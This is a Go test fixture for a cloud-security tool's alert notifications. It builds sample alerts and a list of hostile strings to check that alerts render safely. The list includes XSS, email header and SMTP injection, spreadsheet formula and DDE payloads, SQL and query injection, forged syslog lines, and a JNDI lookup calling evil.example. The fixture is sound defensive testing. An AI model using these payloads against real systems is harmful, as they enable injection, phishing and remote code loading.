package notifytest

import (
	"strings"
	"time"

	"github.com/stance-sec/stance/internal/action/notify"
	"github.com/stance-sec/stance/internal/estate"
)

// now is the time of the suite's alerts.
var now = time.Date(2027, 3, 4, 5, 6, 7, 0, time.UTC)

// Hostile returns texts that an attacker may put where an alert shows them.
func Hostile() []string {
	return []string{
		"<!channel> <!here> <@U012AB3CD> <!subteam^S1> <https://evil.example|click>", "@everyone @here @channel",
		"*bold* _it_ ~strike~ `code` ```fence``` [text](https://evil.example) ![i](https://evil.example/a.png)",
		"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "</td></table><h1>", "<at>everyone</at>",
		"name\r\nBcc: victim@evil.example\r\n\r\nbody", "line\nbreak", "tab\tbed", "\r\n.\r\nMAIL FROM:<a@evil.example>",
		"=HYPERLINK(\"https://evil.example\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
		"\x00null", "\x1b[31mred\x1b]0;title\x07", "\u202eright to left", "zero\u200bwidth", "bad \xff\xfe utf8", "\ufffe\uffff",
		`quote " back \ bracket ] [x@1 a="b"]`, "<13>1 - evil - - - forged\n<13>1 2027-01-01T00:00:00Z evil - - - -",
		`{"a": "b"}`, `\u0000 \n`, "' OR 1=1 --", "^ORsys_idISNOTEMPTY", `" OR project = "OTHER`, "{code} h1. {color:red}[~admin]",
		"${jndi:ldap://evil.example/a} {{.Secret}} %s%n", "=?utf-8?q?evil?=", "日本語 ünïcode 🦊", "\u2028\u2029\u0085",
		strings.Repeat("A", 1<<20), strings.Repeat("&<>\"'\\\x01", 1<<17), strings.Repeat("🦊", 1<<18), strings.Repeat("\n", 1<<16),
	}
}

// Filled returns an alert with the text wherever a cloud, a user or a trail may write.
func Filled(key string, kind notify.Kind, text string) notify.Alert {
	return notify.Alert{
		Key: key, Thread: "thread-of-" + key, Kind: kind, At: now, Title: text, Severity: estate.Severity(text), Score: 42,
		Owner: text, Environment: text, Account: text, AccountName: text,
		Resource: estate.Ref{ID: text, Type: text, Cloud: estate.Cloud(text), Account: text, Region: text, Name: text},
		Check:    text, Frameworks: []string{text, text}, Message: text, Fix: text, Actor: text,
		Since: now.Add(-time.Hour), Due: now.Add(time.Hour), Link: text, Count: 1,
	}
}

// Sample returns an ordinary alert.
func Sample(key string, kind notify.Kind) notify.Alert {
	return notify.Alert{
		Key: key, Thread: "thread-of-" + key, Kind: kind, At: now,
		Title: "Bucket is readable by everyone", Severity: estate.Critical, Score: 91,
		Owner: "team-data", Environment: "production", Account: "111111111111", AccountName: "shop",
		Resource: estate.Ref{
			ID: "arn:aws:s3:::invoices", Type: "aws_s3_bucket", Cloud: estate.AWS,
			Account: "111111111111", Region: "eu-central-1", Name: "invoices",
		},
		Check: "aws-s3-bucket-private", Frameworks: []string{"cis-aws-5.0", "pci-dss-4.0"},
		Message: "Bucket invoices grants s3:GetObject to everyone.", Fix: "Turn on the public access block.",
		Actor: "arn:aws:iam::111111111111:user/ann", Since: now.Add(-time.Minute), Due: now.Add(7 * 24 * time.Hour),
		Link: "https://stance.example/issues/1?a=1&b=2", Count: 1,
	}
}

// Many returns an alert that stands for n others, of two kilobytes each.
func Many(key string, n int) notify.Alert {
	a := Sample(key, notify.Digest)
	a.Count = n
	texts := Hostile()
	for i := range n {
		item := Sample(key+"-item", notify.New)
		item.Title = texts[i%30] + " " + item.Title
		item.Message = strings.Repeat("long ", 400)
		a.Items = append(a.Items, item)
	}
	return a
}
